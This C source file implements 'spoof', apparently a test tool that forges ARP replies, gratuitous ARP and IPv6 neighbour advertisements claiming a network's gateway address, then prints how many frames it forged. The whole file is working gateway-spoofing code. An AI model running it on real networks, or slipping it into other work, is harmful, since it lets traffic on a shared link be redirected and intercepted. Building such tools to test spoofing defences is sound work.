/* SPDX-License-Identifier: ISC */
/*
 * spoof: what others on the network of a line may say of its gateway by ARP
 * and neighbour discovery.  On an interface, as:
 *	unasked	tells everybody, all the time, that the gateway is here:
 *		gratuitous ARP as request and as reply, advertisements
 *	other	answers each request, but speaks for another address
 *	good	answers each request for the gateway as the gateway would:
 *		shows that anybody could
 * until standard input has a line or ends; then prints forged=N.  What it hears
 * is what arrives, before any filter.
 */
#include <sys/socket.h>

#include <arpa/inet.h>
#include <err.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#define PAUSE_MS	10
#define ARP_AT		14
#define ARP_BYTES	28
#define IP6_AT		14
#define ND_AT		(IP6_AT + 40)
#define ND_BYTES	32
#define FRAME		128

enum kind { UNASKED = 1, OTHER, GOOD };

struct spoofer {
	int		s;
	enum kind	kind;
	unsigned long	forged;
	uint8_t		mac[6];
	uint8_t		ip4[4], ip6[16];	/* the gateway's */
};

static const uint8_t everybody[6] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };
static const uint8_t nobody[6];
static const uint8_t all_nodes[16] = { 0xff, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
    0, 0, 0, 1 };
static const uint8_t all_mac[6] = { 0x33, 0x33, 0, 0, 0, 1 };

static void
emit(struct spoofer *sp, const uint8_t *frame, size_t len)
{
	if (send(sp->s, frame, len, 0) == -1)
		err(1, "send");
	sp->forged++;
}

static void
ethernet(const struct spoofer *sp, uint8_t *f, const uint8_t to[6],
    unsigned type)
{
	memset(f, 0, FRAME);
	memcpy(f, to, 6);
	memcpy(f + 6, sp->mac, 6);
	f[12] = (uint8_t)(type >> 8);
	f[13] = (uint8_t)type;
}

static void
arp(struct spoofer *sp, const uint8_t to[6], uint8_t op, const uint8_t spa[4],
    const uint8_t tha[6], const uint8_t tpa[4])
{
	static const uint8_t head[] = { 0, 1, 8, 0, 6, 4, 0 };
	uint8_t f[FRAME], *p = f + ARP_AT;

	ethernet(sp, f, to, ETHERTYPE_ARP);
	memcpy(p, head, sizeof(head));
	p[7] = op;
	memcpy(p + 8, sp->mac, 6);
	memcpy(p + 14, spa, 4);
	memcpy(p + 18, tha, 6);
	memcpy(p + 24, tpa, 4);
	emit(sp, f, ARP_AT + ARP_BYTES);
}

/* RFC 4443, 2.3: over a pseudo-header, too. */
static uint16_t
checksum(const uint8_t *ip6)
{
	const uint8_t *nd = ip6 + 40;
	uint32_t sum = ND_BYTES + IPPROTO_ICMPV6;
	size_t i;

	for (i = 8; i < 40; i += 2)
		sum += (uint32_t)(ip6[i] << 8 | ip6[i + 1]);
	for (i = 0; i < ND_BYTES; i += 2)
		sum += (uint32_t)(nd[i] << 8 | nd[i + 1]);
	while (sum >> 16 != 0)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static void
advertise(struct spoofer *sp, const uint8_t mac[6], const uint8_t to[16],
    uint8_t flags, const uint8_t of[16])
{
	uint8_t f[FRAME], *ip = f + IP6_AT, *nd = f + ND_AT;
	uint16_t sum;

	ethernet(sp, f, mac, ETHERTYPE_IPV6);
	ip[0] = 0x60;
	ip[5] = ND_BYTES;
	ip[6] = IPPROTO_ICMPV6;
	ip[7] = 255;
	memcpy(ip + 8, of, 16);
	memcpy(ip + 24, to, 16);
	nd[0] = 136;
	nd[4] = flags;
	memcpy(nd + 8, of, 16);
	nd[24] = 2;
	nd[25] = 1;
	memcpy(nd + 26, sp->mac, 6);
	sum = checksum(ip);
	nd[2] = (uint8_t)(sum >> 8);
	nd[3] = (uint8_t)sum;
	emit(sp, f, ND_AT + ND_BYTES);
}

/* Router and override; what is solicited has 0x40, too. */
static void
tell_unasked(struct spoofer *sp)
{
	arp(sp, everybody, 2, sp->ip4, everybody, sp->ip4);
	arp(sp, everybody, 1, sp->ip4, nobody, sp->ip4);
	advertise(sp, all_mac, all_nodes, 0xa0, sp->ip6);
}

static void
answer_arp(struct spoofer *sp, const uint8_t *f)
{
	const uint8_t *p = f + ARP_AT;
	uint8_t spa[4];

	if (p[7] != 1 || memcmp(p + 24, sp->ip4, 4) != 0)
		return;
	memcpy(spa, sp->ip4, 4);
	spa[3] += sp->kind == OTHER;
	arp(sp, p + 8, 2, spa, p + 8, p + 14);
}

static void
answer_nd(struct spoofer *sp, const uint8_t *f)
{
	uint8_t of[16];

	if (f[IP6_AT + 6] != IPPROTO_ICMPV6 || f[ND_AT] != 135 ||
	    memcmp(f + ND_AT + 8, sp->ip6, 16) != 0)
		return;
	memcpy(of, sp->ip6, 16);
	of[15] += sp->kind == OTHER;
	advertise(sp, f + 6, f + IP6_AT + 8, 0xe0, of);
}

static void
take(struct spoofer *sp)
{
	struct sockaddr_ll from;
	socklen_t len = sizeof(from);
	uint8_t f[2048];
	ssize_t n;

	n = recvfrom(sp->s, f, sizeof(f), 0, (struct sockaddr *)&from, &len);
	if (n < 0 || from.sll_pkttype == PACKET_OUTGOING || sp->kind == UNASKED)
		return;
	if (n >= ARP_AT + ARP_BYTES && f[12] == 8 && f[13] == 6)
		answer_arp(sp, f);
	else if (n >= ND_AT + 24 && f[12] == 0x86 && f[13] == 0xdd)
		answer_nd(sp, f);
}

static void
listen_on(struct spoofer *sp, const char *ifname)
{
	struct sockaddr_ll at = { .sll_family = AF_PACKET,
	    .sll_protocol = htons(ETH_P_ALL),
	    .sll_ifindex = (int)if_nametoindex(ifname) };
	socklen_t len = sizeof(at);

	sp->s = socket(AF_PACKET, SOCK_RAW, 0);
	if (at.sll_ifindex == 0 || sp->s == -1 ||
	    bind(sp->s, (struct sockaddr *)&at, sizeof(at)) == -1 ||
	    getsockname(sp->s, (struct sockaddr *)&at, &len) == -1)
		err(1, "%s", ifname);
	memcpy(sp->mac, at.sll_addr, 6);
}

static enum kind
kind_of(const char *name)
{
	return strcmp(name, "unasked") == 0 ? UNASKED :
	    strcmp(name, "other") == 0 ? OTHER :
	    strcmp(name, "good") == 0 ? GOOD : 0;
}

int
main(int argc, char **argv)
{
	struct spoofer sp = { .forged = 0 };
	struct pollfd p[2];

	if (argc != 5 || (sp.kind = kind_of(argv[2])) == 0 ||
	    inet_pton(AF_INET, argv[3], sp.ip4) != 1 ||
	    inet_pton(AF_INET6, argv[4], sp.ip6) != 1)
		errx(2, "usage: spoof interface kind gateway4 gateway6");
	listen_on(&sp, argv[1]);
	p[0] = (struct pollfd){ .fd = STDIN_FILENO, .events = POLLIN };
	p[1] = (struct pollfd){ .fd = sp.s, .events = POLLIN };
	while (poll(p, 2, PAUSE_MS) >= 0) {
		if (p[0].revents != 0)
			break;
		if (p[1].revents != 0)
			take(&sp);
		if (sp.kind == UNASKED)
			tell_unasked(&sp);
	}
	printf("forged=%lu\n", sp.forged);
	return 0;
}
